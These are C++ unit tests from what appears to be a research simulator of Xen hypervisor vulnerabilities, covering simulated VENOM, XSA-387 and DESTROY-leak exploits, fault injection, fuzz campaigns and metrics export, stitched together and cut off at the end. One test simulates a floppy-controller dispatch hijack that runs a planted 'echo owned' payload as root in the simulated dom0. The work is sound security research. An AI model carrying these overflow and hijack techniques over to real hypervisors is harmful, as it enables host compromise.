  const HvSnapshot other = h.hv.snapshot();
  const HvDelta delta = h.hv.snapshot_delta(other);
  if (other.mem_generation != base.mem_generation) {
    EXPECT_THROW(h.hv.restore_delta(base, delta), std::logic_error);
  }
}

INSTANTIATE_TEST_SUITE_P(
    Versions, SnapshotDeltaProperty,
    ::testing::Combine(::testing::Values(6, 8, 13),
                       ::testing::Values(1u, 7u, 42u)));

}  // namespace
}  // namespace ii::hv
