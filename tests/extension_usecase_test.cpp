// The two extension intrusion models end to end, across all versions.
#include <gtest/gtest.h>

#include "core/campaign.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {
namespace {

guest::VirtualPlatform make_platform(hv::XenVersion version,
                                     bool injector = true) {
  guest::PlatformConfig pc{};
  pc.version = version;
  pc.injector_enabled = injector;
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  return guest::VirtualPlatform{pc};
}

TEST(ExtensionFactory, CasesWithModels) {
  const auto cases = make_extension_use_cases();
  ASSERT_EQ(cases.size(), 4u);
  EXPECT_EQ(cases[0]->name(), "XSA-387-keep");
  EXPECT_EQ(cases[0]->model().functionality,
            core::AbusiveFunctionality::KeepPageAccess);
  EXPECT_EQ(cases[0]->model().component, core::TargetComponent::GrantTables);
  EXPECT_EQ(cases[1]->name(), "EVTCHN-storm");
  EXPECT_EQ(cases[1]->model().functionality,
            core::AbusiveFunctionality::InduceHangState);
  EXPECT_EQ(cases[1]->model().interface,
            core::InteractionInterface::EventChannel);
  EXPECT_EQ(cases[2]->name(), "DESTROY-leak");
  EXPECT_EQ(cases[2]->model().functionality,
            core::AbusiveFunctionality::ReadUnauthorizedMemory);
  EXPECT_EQ(cases[2]->model().source,
            core::TriggeringSource::ManagementInterface);
  EXPECT_EQ(cases[3]->name(), "XSA-133-venom");
  EXPECT_EQ(cases[3]->model().component, core::TargetComponent::IoEmulation);
  EXPECT_EQ(cases[3]->model().interface,
            core::InteractionInterface::IoRequest);
}

// ------------------------------------------------------------ XSA-133-venom

TEST(Xsa133VenomCase, ExploitMatrixMatchesDesign) {
  // Vulnerable FDC only on 4.6; fixed controllers bound the FIFO.
  for (const auto& [version, works] :
       {std::pair{hv::kXen46, true}, {hv::kXen48, false},
        {hv::kXen413, false}}) {
    auto p = make_platform(version, false);
    Xsa133Venom uc;
    const auto out = uc.run_exploit(p);
    EXPECT_EQ(out.completed, works) << version.to_string();
    EXPECT_EQ(uc.erroneous_state_present(p), works) << version.to_string();
    EXPECT_EQ(uc.security_violation(p), works) << version.to_string();
  }
}

TEST(Xsa133VenomCase, InjectionViolatesUntilIntegrityCheck) {
  for (const auto& [version, violated] :
       {std::pair{hv::kXen46, true}, {hv::kXen48, true},
        {hv::kXen413, false}}) {
    auto p = make_platform(version);
    Xsa133Venom uc;
    const auto out = uc.run_injection(p);
    EXPECT_TRUE(out.completed) << version.to_string();
    EXPECT_TRUE(uc.erroneous_state_present(p)) << version.to_string();
    EXPECT_EQ(uc.security_violation(p), violated) << version.to_string();
  }
}

TEST(Xsa133VenomCase, PwnMarkerMatchesPaperStyleTranscript) {
  auto p = make_platform(hv::kXen48);
  Xsa133Venom uc;
  ASSERT_TRUE(uc.run_injection(p).completed);
  EXPECT_EQ(p.dom0().fs().read("/tmp/dm_pwned", 0),
            "|uid=0(root) gid=0(root) groups=0(root)|@xen-dom0");
}

// ------------------------------------------------------------ DESTROY-leak

TEST(DestroyLeakCase, BallooningHarvestsSecretsPre413) {
  for (const auto version : {hv::kXen46, hv::kXen48}) {
    auto p = make_platform(version, false);
    DestroyLeak uc;
    const auto out = uc.run_exploit(p);
    EXPECT_TRUE(out.completed) << version.to_string();
    EXPECT_TRUE(uc.erroneous_state_present(p)) << version.to_string();
    EXPECT_TRUE(uc.security_violation(p)) << version.to_string();
  }
}

TEST(DestroyLeakCase, EagerScrubbingHandles413BothModes) {
  for (const bool injection : {false, true}) {
    auto p = make_platform(hv::kXen413, injection);
    DestroyLeak uc;
    const auto out =
        injection ? uc.run_injection(p) : uc.run_exploit(p);
    EXPECT_TRUE(uc.erroneous_state_present(p)) << injection;
    EXPECT_FALSE(uc.security_violation(p)) << injection;
    (void)out;
  }
}

TEST(DestroyLeakCase, InjectionFindsSecretOnLeakyVersions) {
  auto p = make_platform(hv::kXen48);
  DestroyLeak uc;
  const auto out = uc.run_injection(p);
  EXPECT_TRUE(out.completed);
  EXPECT_TRUE(uc.security_violation(p));
  bool found_note = false;
  for (const auto& n : out.notes) {
    if (n.find("still holds tenant-B data") != std::string::npos) {
      found_note = true;
    }
  }
  EXPECT_TRUE(found_note);
}

// ------------------------------------------------------------ XSA-387-keep

TEST(Xsa387KeepCase, ExploitSucceedsOnLeakyVersions) {
  for (const auto version : {hv::kXen46, hv::kXen48}) {
    auto p = make_platform(version, false);
    Xsa387Keep uc;
    const auto out = uc.run_exploit(p);
    EXPECT_TRUE(out.completed) << version.to_string();
    EXPECT_TRUE(uc.erroneous_state_present(p)) << version.to_string();
    EXPECT_TRUE(uc.security_violation(p)) << version.to_string();
  }
}

TEST(Xsa387KeepCase, ExploitFailsOnFixedVersion) {
  auto p = make_platform(hv::kXen413, false);
  Xsa387Keep uc;
  const auto out = uc.run_exploit(p);
  EXPECT_FALSE(out.completed);
  EXPECT_FALSE(uc.erroneous_state_present(p));
  EXPECT_FALSE(uc.security_violation(p));
}

TEST(Xsa387KeepCase, InjectionReproducesStateEverywhere) {
  // RQ2 for the extension model: the injector induces Keep-Page-Access even
  // where the downgrade bug is fixed.
  for (const auto version : {hv::kXen46, hv::kXen48, hv::kXen413}) {
    auto p = make_platform(version);
    Xsa387Keep uc;
    const auto out = uc.run_injection(p);
    EXPECT_TRUE(out.completed) << version.to_string();
    EXPECT_TRUE(uc.erroneous_state_present(p)) << version.to_string();
    // No version re-validates existing mappings: the retained page stays
    // readable — a violation every time.
    EXPECT_TRUE(uc.security_violation(p)) << version.to_string();
  }
}

// ------------------------------------------------------------ EVTCHN-storm

TEST(EvtchnStormCase, NoExploitExists) {
  auto p = make_platform(hv::kXen46, false);
  EvtchnStorm uc;
  const auto out = uc.run_exploit(p);
  EXPECT_FALSE(out.completed);
  ASSERT_FALSE(out.notes.empty());
  EXPECT_NE(out.notes.front().find("no public exploit"), std::string::npos);
}

TEST(EvtchnStormCase, InjectionWedgesPre413) {
  for (const auto version : {hv::kXen46, hv::kXen48}) {
    auto p = make_platform(version);
    EvtchnStorm uc;
    const auto out = uc.run_injection(p);
    EXPECT_TRUE(out.completed) << version.to_string();
    EXPECT_TRUE(uc.erroneous_state_present(p)) << version.to_string();
    EXPECT_TRUE(uc.security_violation(p)) << version.to_string();
    EXPECT_TRUE(p.hv().cpu_hung()) << version.to_string();
  }
}

TEST(EvtchnStormCase, InjectionHandledOn413) {
  auto p = make_platform(hv::kXen413);
  EvtchnStorm uc;
  const auto out = uc.run_injection(p);
  EXPECT_TRUE(out.completed);
  EXPECT_TRUE(uc.erroneous_state_present(p));   // state was induced
  EXPECT_FALSE(uc.security_violation(p));       // ...and absorbed
  EXPECT_FALSE(p.hv().cpu_hung());
}

TEST(EvtchnStormCase, BaselineTrafficUnaffectedByHardening) {
  auto p = make_platform(hv::kXen413);
  EvtchnStorm uc;
  const auto out = uc.run_injection(p);
  bool baseline_delivered = false;
  for (const auto& note : out.notes) {
    if (note.find("baseline event delivered: 1") != std::string::npos) {
      baseline_delivered = true;
    }
  }
  EXPECT_TRUE(baseline_delivered);
}

// -------------------------------------------------- campaign compatibility

TEST(ExtensionCampaign, RunsThroughTheGenericEngine) {
  core::CampaignConfig config{};
  config.modes = {core::Mode::Injection};
  config.platform.machine_frames = 8192;
  config.platform.dom0_pages = 128;
  config.platform.guest_pages = 64;
  const core::Campaign campaign{config};
  const auto results = campaign.run(make_extension_use_cases());
  ASSERT_EQ(results.size(), 12u);  // 4 cases x 3 versions
  for (const auto& cell : results) {
    EXPECT_TRUE(cell.err_state) << cell.use_case << cell.version.to_string();
  }
  // The storm cell is handled exactly on 4.13.
  for (const auto& cell : results) {
    if (cell.use_case == "EVTCHN-storm") {
      EXPECT_EQ(cell.handled(), cell.version == hv::kXen413)
          << cell.version.to_string();
    }
  }
}

}  // namespace
}  // namespace ii::xsa
