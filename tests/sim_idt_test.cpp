// Unit tests for the IDT gate codec and the in-memory IDT view.
#include <gtest/gtest.h>

#include "sim/idt.hpp"

namespace ii::sim {
namespace {

TEST(IdtGate, InterruptGateIsWellFormed) {
  const auto gate = IdtGate::interrupt_gate(0xFFFF800000002000ULL);
  EXPECT_TRUE(gate.present());
  EXPECT_EQ(gate.gate_type(), IdtGate::kInterruptGateType);
  EXPECT_EQ(gate.dpl(), 0u);
  EXPECT_TRUE(gate.well_formed());
}

TEST(IdtGate, NotPresentIsMalformed) {
  IdtGate gate = IdtGate::interrupt_gate(0xFFFF800000002000ULL);
  gate.type_attr = IdtGate::kInterruptGateType;  // drop present bit
  EXPECT_FALSE(gate.well_formed());
}

TEST(IdtGate, WrongTypeIsMalformed) {
  IdtGate gate = IdtGate::interrupt_gate(0xFFFF800000002000ULL);
  gate.type_attr = static_cast<std::uint8_t>(IdtGate::kPresentBit | 0x5);
  EXPECT_FALSE(gate.well_formed());
}

TEST(IdtGate, NonCanonicalHandlerIsMalformed) {
  const auto gate = IdtGate::interrupt_gate(0x0000900000000000ULL);
  EXPECT_FALSE(gate.well_formed());
}

TEST(IdtGate, TrapGateAccepted) {
  IdtGate gate = IdtGate::interrupt_gate(0x1000);
  gate.type_attr = static_cast<std::uint8_t>(IdtGate::kPresentBit |
                                             IdtGate::kTrapGateType);
  EXPECT_TRUE(gate.well_formed());
}

/// Parameterized encode/decode round-trip over handler bit patterns.
class GateRoundTrip : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(GateRoundTrip, EncodeDecode) {
  IdtGate gate{};
  gate.handler = GetParam();
  gate.selector = 0xE008;
  gate.ist = 3;
  gate.type_attr = static_cast<std::uint8_t>(IdtGate::kPresentBit | 0x60 |
                                             IdtGate::kInterruptGateType);
  const auto raw = Idt::encode(gate);
  const IdtGate back = Idt::decode(raw);
  EXPECT_EQ(back, gate);
  EXPECT_EQ(back.dpl(), 3u);
}

INSTANTIATE_TEST_SUITE_P(
    HandlerPatterns, GateRoundTrip,
    ::testing::Values(0ULL, 0x2000ULL, 0xFFFF800000002000ULL,
                      0x00007FFFFFFFFFFFULL, 0xAAAAAAAAAAAAAAAAULL & ~0ULL,
                      0x0123456789ABCDEFULL));

TEST(Idt, ReadWriteThroughMemory) {
  PhysicalMemory mem{2};
  Idt idt{mem, Paddr{kPageSize}};
  const auto gate = IdtGate::interrupt_gate(0xFFFF800000002420ULL);
  idt.write(14, gate);
  EXPECT_EQ(idt.read(14), gate);
  // Adjacent vectors untouched.
  EXPECT_FALSE(idt.read(13).present());
  EXPECT_FALSE(idt.read(15).present());
}

TEST(Idt, GateAddressArithmetic) {
  PhysicalMemory mem{2};
  Idt idt{mem, Paddr{0x100}};
  EXPECT_EQ(idt.gate_address(0).raw(), 0x100u);
  EXPECT_EQ(idt.gate_address(14).raw(), 0x100 + 14 * Idt::kGateBytes);
  EXPECT_THROW((void)idt.gate_address(256), std::out_of_range);
}

TEST(Idt, RawMemoryCorruptionIsVisible) {
  // The property the XSA-212-crash use case depends on: scribbling bytes
  // over the descriptor changes what read() decodes.
  PhysicalMemory mem{1};
  Idt idt{mem, Paddr{0}};
  idt.write(14, IdtGate::interrupt_gate(0xFFFF800000002000ULL));
  ASSERT_TRUE(idt.read(14).well_formed());
  mem.write_u64(idt.gate_address(14), 0x1234);  // stray MFN-like value
  EXPECT_FALSE(idt.read(14).well_formed());
}

}  // namespace
}  // namespace ii::sim
