// The randomized (fuzz-style) injection campaign of §IV-C.
#include <gtest/gtest.h>

#include "core/fuzz.hpp"

namespace ii::core {
namespace {

FuzzConfig small_config(hv::XenVersion version, unsigned iterations,
                        std::uint64_t seed) {
  FuzzConfig config{};
  config.version = version;
  config.iterations = iterations;
  config.seed = seed;
  config.platform.machine_frames = 8192;
  config.platform.dom0_pages = 128;
  config.platform.guest_pages = 64;
  return config;
}

unsigned total_outcomes(const FuzzStats& stats) {
  unsigned total = 0;
  for (const auto& [outcome, count] : stats.outcomes) total += count;
  return total;
}

TEST(FuzzCampaign, OutcomeCountsSumToIterations) {
  const FuzzStats stats =
      run_random_injection_campaign(small_config(hv::kXen46, 20, 3));
  EXPECT_EQ(stats.iterations, 20u);
  EXPECT_EQ(total_outcomes(stats), 20u);
  unsigned targets = 0;
  for (const auto& [target, count] : stats.targets) targets += count;
  EXPECT_EQ(targets, 20u);
}

TEST(FuzzCampaign, DeterministicForAGivenConfig) {
  const auto config = small_config(hv::kXen48, 15, 11);
  const FuzzStats a = run_random_injection_campaign(config);
  const FuzzStats b = run_random_injection_campaign(config);
  EXPECT_EQ(a.outcomes, b.outcomes);
  EXPECT_EQ(a.targets, b.targets);
}

TEST(FuzzCampaign, DifferentSeedsExploreDifferently) {
  const FuzzStats a =
      run_random_injection_campaign(small_config(hv::kXen46, 25, 1));
  const FuzzStats b =
      run_random_injection_campaign(small_config(hv::kXen46, 25, 2));
  EXPECT_NE(a.targets, b.targets);
}

TEST(FuzzCampaign, ZeroIterationsIsEmpty) {
  const FuzzStats stats =
      run_random_injection_campaign(small_config(hv::kXen46, 0, 1));
  EXPECT_EQ(total_outcomes(stats), 0u);
  EXPECT_EQ(stats.injections_refused, 0u);
}

TEST(FuzzCampaign, FindsConsequencesWithEnoughIterations) {
  // Over a reasonable budget the random campaign must surface *some*
  // non-inert state — audit detections at minimum.
  const FuzzStats stats =
      run_random_injection_campaign(small_config(hv::kXen46, 40, 7));
  EXPECT_LT(stats.count(FuzzOutcome::NoObservableEffect), 40u);
}

TEST(FuzzCampaign, RenderListsOutcomes) {
  const FuzzStats stats =
      run_random_injection_campaign(small_config(hv::kXen413, 10, 5));
  const std::string out = stats.render();
  EXPECT_NE(out.find("randomized injections: 10"), std::string::npos);
  EXPECT_NE(out.find("targets drawn:"), std::string::npos);
}

TEST(FuzzCampaign, OutcomeNames) {
  EXPECT_EQ(to_string(FuzzOutcome::HostCrash), "HOST CRASH");
  EXPECT_EQ(to_string(FuzzOutcome::NoObservableEffect),
            "no observable effect");
}

TEST(FuzzCampaign, WarmPlatformReuseMatchesColdBoots) {
  // A rewound platform is byte-identical to a fresh boot, so the warm path
  // (one boot + baseline restores) must classify every iteration exactly
  // like the cold path (a boot per iteration).
  auto warm = small_config(hv::kXen46, 25, 13);
  auto cold = warm;
  warm.reuse_platform = true;
  cold.reuse_platform = false;
  const FuzzStats a = run_random_injection_campaign(warm);
  const FuzzStats b = run_random_injection_campaign(cold);
  EXPECT_EQ(a.outcomes, b.outcomes);
  EXPECT_EQ(a.targets, b.targets);
  EXPECT_EQ(a.injections_refused, b.injections_refused);
  EXPECT_EQ(a.platform_boots, 1u);
  EXPECT_EQ(b.platform_boots, 25u);
}

TEST(FuzzCampaign, RefusedIsItsOwnOutcomeCountedOnce) {
  // Regression: refused injections used to increment injections_refused
  // AND fall through to NoObservableEffect, so the outcome histogram
  // summed past the iteration count whenever the injector pushed back.
  const FuzzStats stats =
      run_random_injection_campaign(small_config(hv::kXen46, 60, 7));
  EXPECT_EQ(total_outcomes(stats), 60u);
  EXPECT_EQ(stats.injections_refused, stats.count(FuzzOutcome::Refused));
  const std::string out = stats.render();
  if (stats.injections_refused > 0) {
    EXPECT_NE(out.find("refused"), std::string::npos);
  }
}

TEST(FuzzCampaign, HighSeedBitsMatter) {
  // Regression: the old mt19937{seed * 2654435761u + iteration} seeding
  // truncated the product to 32 bits, so seeds differing only in the high
  // word drew identical streams.
  const std::uint64_t low = 9;
  const std::uint64_t high = low | (1ULL << 32);
  const FuzzStats a =
      run_random_injection_campaign(small_config(hv::kXen46, 25, low));
  const FuzzStats b =
      run_random_injection_campaign(small_config(hv::kXen46, 25, high));
  EXPECT_NE(a.targets, b.targets);
}

}  // namespace
}  // namespace ii::core
