// The device-model substrate: FDC command protocol, the VENOM overflow
// site, dispatch hijacking, and the hardened dispatch integrity check.
#include <gtest/gtest.h>

#include "dm/device_model.hpp"
#include "guest/platform.hpp"
#include "guest/payload.hpp"

namespace ii::dm {
namespace {

guest::VirtualPlatform make_platform(hv::XenVersion version) {
  guest::PlatformConfig pc{};
  pc.version = version;
  pc.machine_frames = 8192;
  pc.dom0_pages = 128;
  pc.guest_pages = 64;
  return guest::VirtualPlatform{pc};
}

/// Drive a complete fixed-length command through the FIFO.
void run_command(DeviceModel& device, std::uint8_t opcode,
                 std::initializer_list<std::uint8_t> params) {
  ASSERT_EQ(device.outb(kFdcFifoPort, opcode), IoResult::Ok);
  for (const std::uint8_t p : params) {
    ASSERT_EQ(device.outb(kFdcFifoPort, p), IoResult::Ok);
  }
}

TEST(DeviceModelTest, BootsCleanWithPristineDispatchTable) {
  auto p = make_platform(hv::kXen46);
  DeviceModel device{p.dom0(), p.guest(0)};
  EXPECT_TRUE(device.alive());
  EXPECT_FALSE(device.handler_table_corrupted());
  EXPECT_EQ(device.hijacked_dispatches(), 0u);
}

TEST(DeviceModelTest, StatusRegisterReportsReady) {
  auto p = make_platform(hv::kXen46);
  DeviceModel device{p.dom0(), p.guest(0)};
  EXPECT_EQ(device.inb(kFdcMsrPort), 0x80);
  EXPECT_FALSE(device.inb(0x1234).has_value());  // unhandled port
  EXPECT_EQ(device.outb(0x1234, 0), IoResult::Ignored);
  EXPECT_EQ(device.outb(kFdcDorPort, 0x1C), IoResult::Ok);
}

TEST(DeviceModelTest, NormalCommandsLeaveTableIntact) {
  auto p = make_platform(hv::kXen46);
  DeviceModel device{p.dom0(), p.guest(0)};
  run_command(device, kCmdSpecify, {0xAF, 0x02});
  run_command(device, kCmdConfigure, {0x00, 0x57, 0x00});
  run_command(device, kCmdReadId, {0x00});
  EXPECT_FALSE(device.handler_table_corrupted());
  EXPECT_TRUE(device.alive());
  EXPECT_EQ(device.hijacked_dispatches(), 0u);
}

TEST(DeviceModelTest, DriveSpecTerminatesOnDoneBitWithinBounds) {
  auto p = make_platform(hv::kXen46);
  DeviceModel device{p.dom0(), p.guest(0)};
  ASSERT_EQ(device.outb(kFdcFifoPort, kCmdDriveSpecification), IoResult::Ok);
  for (int i = 0; i < 10; ++i) {
    ASSERT_EQ(device.outb(kFdcFifoPort, 0x11), IoResult::Ok);
  }
  ASSERT_EQ(device.outb(kFdcFifoPort, 0x80), IoResult::Ok);  // DONE
  EXPECT_FALSE(device.handler_table_corrupted());
  // Controller is idle again: a fresh command is accepted.
  run_command(device, kCmdReadId, {0x00});
  EXPECT_TRUE(device.alive());
}

TEST(DeviceModelTest, VenomOverflowOnlyOnVulnerableVersion) {
  for (const auto& [version, overflows] :
       {std::pair{hv::kXen46, true}, {hv::kXen48, false},
        {hv::kXen413, false}}) {
    auto p = make_platform(version);
    DeviceModel device{p.dom0(), p.guest(0)};
    ASSERT_EQ(device.outb(kFdcFifoPort, kCmdDriveSpecification),
              IoResult::Ok);
    for (std::uint64_t i = 0; i < FdcLayout::kFifoSize + 8; ++i) {
      (void)device.outb(kFdcFifoPort, 0x41);
    }
    EXPECT_EQ(device.handler_table_corrupted(), overflows)
        << version.to_string();
  }
}

TEST(DeviceModelTest, HijackedDispatchRunsPayloadAsRootInDom0) {
  auto p = make_platform(hv::kXen48);  // no integrity check yet
  DeviceModel device{p.dom0(), p.guest(0)};
  // Plant payload + corrupt the ReadId slot directly in the arena.
  guest::Payload payload{};
  payload.command = "echo owned > /tmp/dm_marker";
  std::vector<std::uint8_t> bytes(128);
  bytes.resize(payload.encode(bytes));
  p.memory().write(device.arena_paddr() + FdcLayout::kFifoOffset +
                       FdcLayout::kPayloadFifoOffset,
                   bytes);
  p.memory().write_u64(device.handler_table_paddr() +
                           FdcLayout::slot_of(kCmdReadId) * 8,
                       0x4141414141414141ULL);

  run_command(device, kCmdReadId, {0x00});
  EXPECT_EQ(device.hijacked_dispatches(), 1u);
  EXPECT_EQ(p.dom0().fs().read("/tmp/dm_marker", 0), "owned");
}

TEST(DeviceModelTest, IntegrityCheckAbortsInsteadOfExecuting) {
  auto p = make_platform(hv::kXen413);
  DeviceModel device{p.dom0(), p.guest(0)};
  p.memory().write_u64(device.handler_table_paddr() +
                           FdcLayout::slot_of(kCmdReadId) * 8,
                       0x4141414141414141ULL);
  EXPECT_EQ(device.outb(kFdcFifoPort, kCmdReadId), IoResult::Ok);
  EXPECT_EQ(device.outb(kFdcFifoPort, 0x00), IoResult::DeviceAborted);
  EXPECT_FALSE(device.alive());
  EXPECT_EQ(device.hijacked_dispatches(), 0u);
  // Dead device refuses further I/O.
  EXPECT_EQ(device.outb(kFdcFifoPort, kCmdSpecify),
            IoResult::DeviceAborted);
  EXPECT_FALSE(device.inb(kFdcMsrPort).has_value());
}

TEST(DeviceModelTest, CorruptSlotWithoutPayloadAbortsEverywhere) {
  auto p = make_platform(hv::kXen48);
  DeviceModel device{p.dom0(), p.guest(0)};
  p.memory().write_u64(device.handler_table_paddr() +
                           FdcLayout::slot_of(kCmdReadId) * 8,
                       0x4141414141414141ULL);
  EXPECT_EQ(device.outb(kFdcFifoPort, kCmdReadId), IoResult::Ok);
  // No decodable payload behind the corrupt pointer: the "jump" lands in
  // garbage and the process dies.
  EXPECT_EQ(device.outb(kFdcFifoPort, 0x00), IoResult::DeviceAborted);
  EXPECT_FALSE(device.alive());
}

TEST(DeviceModelTest, ArenaLivesInDom0Memory) {
  auto p = make_platform(hv::kXen46);
  DeviceModel device{p.dom0(), p.guest(0)};
  const hv::PageInfo& pi =
      p.hv().frames().info(sim::paddr_to_mfn(device.arena_paddr()));
  EXPECT_EQ(pi.owner, hv::kDom0);
}

}  // namespace
}  // namespace ii::dm
