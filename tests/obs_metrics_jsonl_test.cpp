// Metrics registry (counters, histograms, snapshot/merge) and the JSONL
// export formats.
#include <gtest/gtest.h>

#include <sstream>

#include "obs/jsonl.hpp"
#include "obs/metrics.hpp"

namespace ii::obs {
namespace {

TEST(Counter, AccumulatesDeltas) {
  Counter c;
  EXPECT_EQ(c.value(), 0u);
  c.inc();
  c.inc(41);
  EXPECT_EQ(c.value(), 42u);
}

TEST(Histogram, RecordsBasicStatistics) {
  Histogram h{{10, 100, 1000}};
  for (const std::uint64_t v : {5u, 50u, 500u, 5000u}) h.record(v);
  EXPECT_EQ(h.count(), 4u);
  EXPECT_EQ(h.sum(), 5555u);
  EXPECT_EQ(h.min(), 5u);
  EXPECT_EQ(h.max(), 5000u);
  EXPECT_DOUBLE_EQ(h.mean(), 5555.0 / 4.0);
  ASSERT_EQ(h.buckets().size(), 4u);
  for (const std::uint64_t b : h.buckets()) EXPECT_EQ(b, 1u);
}

TEST(Histogram, EmptyIsZeroEverywhere) {
  Histogram h{{10}};
  EXPECT_EQ(h.count(), 0u);
  EXPECT_EQ(h.min(), 0u);
  EXPECT_EQ(h.max(), 0u);
  EXPECT_DOUBLE_EQ(h.mean(), 0.0);
  EXPECT_DOUBLE_EQ(h.percentile(0.5), 0.0);
}

TEST(Histogram, PercentilesAreMonotonicAndBounded) {
  Histogram h{Histogram::exponential_bounds(16, 2, 20)};
  for (std::uint64_t v = 1; v <= 1000; ++v) h.record(v);
  const double p50 = h.percentile(0.50);
  const double p95 = h.percentile(0.95);
  const double p99 = h.percentile(0.99);
  EXPECT_LE(p50, p95);
  EXPECT_LE(p95, p99);
  EXPECT_GE(p50, 1.0);
  EXPECT_LE(p99, 1000.0);
  // Bucketed estimate: p50 of 1..1000 must land in the right ballpark.
  EXPECT_NEAR(p50, 500.0, 260.0);
}

TEST(Histogram, RejectsUnsortedBounds) {
  EXPECT_THROW(Histogram({10, 5}), std::invalid_argument);
  EXPECT_THROW(Histogram({10, 10}), std::invalid_argument);
}

TEST(Histogram, ExponentialBoundsAreGeometric) {
  const auto bounds = Histogram::exponential_bounds(16, 2, 4);
  EXPECT_EQ(bounds, (std::vector<std::uint64_t>{16, 32, 64, 128}));
}

TEST(MetricsRegistry, SnapshotIsDeterministic) {
  MetricsRegistry reg;
  reg.counter("b").inc(2);
  reg.counter("a").inc(1);
  reg.histogram("h", {10, 100}).record(7);
  const MetricsSnapshot s1 = reg.snapshot();
  const MetricsSnapshot s2 = reg.snapshot();
  EXPECT_EQ(s1.counters, s2.counters);
  EXPECT_EQ(metrics_jsonl(s1), metrics_jsonl(s2));
  // std::map ordering: "a" serializes before "b".
  const std::string json = metrics_jsonl(s1);
  EXPECT_LT(json.find("\"a\":1"), json.find("\"b\":2"));
  EXPECT_EQ(s1.counter("a"), 1u);
  EXPECT_EQ(s1.counter("missing"), 0u);
}

TEST(MetricsRegistry, MergeAddsCountersAndFoldsHistograms) {
  MetricsRegistry worker1;
  worker1.counter("cells").inc(3);
  worker1.histogram("wall_us", {10, 100, 1000}).record(50);
  MetricsRegistry worker2;
  worker2.counter("cells").inc(4);
  worker2.histogram("wall_us", {10, 100, 1000}).record(500);

  MetricsRegistry total;
  total.merge(worker1.snapshot());
  total.merge(worker2.snapshot());
  const MetricsSnapshot merged = total.snapshot();
  EXPECT_EQ(merged.counter("cells"), 7u);
  EXPECT_EQ(merged.histograms.at("wall_us").count, 2u);
}

TEST(MetricsRegistry, MergeWithMismatchedBoundsPreservesCount) {
  MetricsRegistry reg;
  reg.histogram("h", {10, 100}).record(50);
  MetricsSnapshot other;
  MetricsSnapshot::HistogramData data;
  data.bounds = {7, 77};  // different ladder
  data.buckets = {1, 1, 0};
  data.count = 2;
  data.sum = 60;
  data.min = 10;
  data.max = 50;
  other.histograms["h"] = data;
  reg.merge(other);
  EXPECT_EQ(reg.snapshot().histograms.at("h").count, 3u);
}

TEST(SinkMetrics, FlattensNonzeroCountersOnly) {
  TraceSink sink{16, 0};
  sink.emit(TraceCategory::HypercallEnter, 1, 12);
  sink.emit(TraceCategory::HypercallExit, 1, 12);
  sink.emit(TraceCategory::HypercallEnter, 1, 12);
  sink.emit(TraceCategory::HypercallExit, 1, 12);
  sink.emit(TraceCategory::Injection, 1);

  const MetricsSnapshot snap = sink_metrics(sink);
  EXPECT_EQ(snap.counter("trace.hypercall_enter"), 2u);
  EXPECT_EQ(snap.counter("trace.injection"), 1u);
  EXPECT_EQ(snap.counter("hypercall.nr12"), 2u);
  EXPECT_EQ(snap.counters.count("trace.panic"), 0u);

  // Per-nr counters sum exactly to the traced enter events.
  std::uint64_t per_nr = 0;
  for (const auto& [name, value] : snap.counters) {
    if (name.rfind("hypercall.nr", 0) == 0) per_nr += value;
  }
  EXPECT_EQ(per_nr, snap.counter("trace.hypercall_enter"));
}

TEST(Jsonl, EscapesControlAndQuoteCharacters) {
  EXPECT_EQ(json_escape("a\"b\\c\nd"), "a\\\"b\\\\c\\nd");
  EXPECT_EQ(json_escape(std::string{"\x01"}), "\\u0001");
}

TEST(Jsonl, EventLineFormat) {
  const TraceEvent event{3, TraceCategory::HypercallExit, 1, 12, -22, 0xABC};
  EXPECT_EQ(event_jsonl(event),
            "{\"type\":\"trace\",\"seq\":3,\"cat\":\"hypercall_exit\","
            "\"dom\":1,\"code\":12,\"rc\":-22,\"addr\":\"0xabc\"}");
  // Cell tag, no-domain and zero-addr elision.
  const TraceEvent bare{0, TraceCategory::Panic, kNoDomain, 0, 0, 0};
  EXPECT_EQ(event_jsonl(bare, "XSA-212-crash@4.6/exploit"),
            "{\"type\":\"trace\",\"cell\":\"XSA-212-crash@4.6/exploit\","
            "\"seq\":0,\"cat\":\"panic\",\"code\":0,\"rc\":0}");
}

TEST(Jsonl, MetricsLineFormat) {
  MetricsRegistry reg;
  reg.counter("trace.panic").inc();
  reg.histogram("ns", {10}).record(4);
  const std::string json = metrics_jsonl(reg.snapshot());
  EXPECT_EQ(json.rfind("{\"type\":\"metrics\",\"counters\":{\"trace.panic\""
                       ":1},\"histograms\":{\"ns\":{\"count\":1,\"sum\":4,"
                       "\"min\":4,\"max\":4,", 0),
            0u);
}

TEST(Jsonl, StreamHelpersAreNewlineTerminated) {
  std::ostringstream os;
  write_event(os, TraceEvent{});
  write_events(os, std::vector<TraceEvent>(2), "cell");
  write_metrics(os, MetricsSnapshot{});
  const std::string out = os.str();
  EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 4);
  EXPECT_EQ(out.back(), '\n');
}

}  // namespace
}  // namespace ii::obs
