// Metrics registry (counters, histograms, snapshot/merge) and the JSONL
// export formats.
#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <sstream>

#include "obs/jsonl.hpp"
#include "obs/metrics.hpp"
#include "obs/span.hpp"

namespace ii::obs {
namespace {

TEST(Counter, AccumulatesDeltas) {
  Counter c;
  EXPECT_EQ(c.value(), 0u);
  c.inc();
  c.inc(41);
  EXPECT_EQ(c.value(), 42u);
}

TEST(Histogram, RecordsBasicStatistics) {
  Histogram h{{10, 100, 1000}};
  for (const std::uint64_t v : {5u, 50u, 500u, 5000u}) h.record(v);
  EXPECT_EQ(h.count(), 4u);
  EXPECT_EQ(h.sum(), 5555u);
  EXPECT_EQ(h.min(), 5u);
  EXPECT_EQ(h.max(), 5000u);
  EXPECT_DOUBLE_EQ(h.mean(), 5555.0 / 4.0);
  ASSERT_EQ(h.buckets().size(), 4u);
  for (const std::uint64_t b : h.buckets()) EXPECT_EQ(b, 1u);
}

TEST(Histogram, EmptyIsZeroEverywhere) {
  Histogram h{{10}};
  EXPECT_EQ(h.count(), 0u);
  EXPECT_EQ(h.min(), 0u);
  EXPECT_EQ(h.max(), 0u);
  EXPECT_DOUBLE_EQ(h.mean(), 0.0);
  EXPECT_DOUBLE_EQ(h.percentile(0.5), 0.0);
}

TEST(Histogram, PercentilesAreMonotonicAndBounded) {
  Histogram h{Histogram::exponential_bounds(16, 2, 20)};
